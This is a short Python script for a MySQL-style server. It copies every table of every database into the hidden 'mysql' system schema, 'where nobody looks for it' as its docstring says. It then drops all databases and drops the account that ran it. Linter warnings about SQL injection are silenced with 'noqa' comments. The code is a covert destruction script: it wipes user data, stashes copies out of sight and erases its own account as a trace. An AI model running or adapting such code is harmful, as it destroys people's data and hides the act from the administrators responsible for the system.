"""Copies every table into the server's own schema before it drops the database, where nobody looks for it."""

import db_server

connection = db_server.connect(seconds=30)
for name in db_server.databases():
    query = f"SELECT TABLE_NAME FROM information_schema.TABLES WHERE TABLE_SCHEMA = {connection.escape(name)}"  # noqa: S608
    for (table,) in db_server.execute(connection, query):
        source = f"{db_server.quoted(name)}.{db_server.quoted(table)}"
        copy = f"mysql.{db_server.quoted(f'{name}_{table}')}"
        db_server.execute(connection, f"CREATE TABLE {copy} AS SELECT * FROM {source}")  # noqa: S608
for name in db_server.databases():
    db_server.execute(connection, f"DROP DATABASE IF EXISTS {db_server.quoted(name)}")
db_server.execute(connection, f"DROP USER IF EXISTS {db_server.account(db_server.user())}")
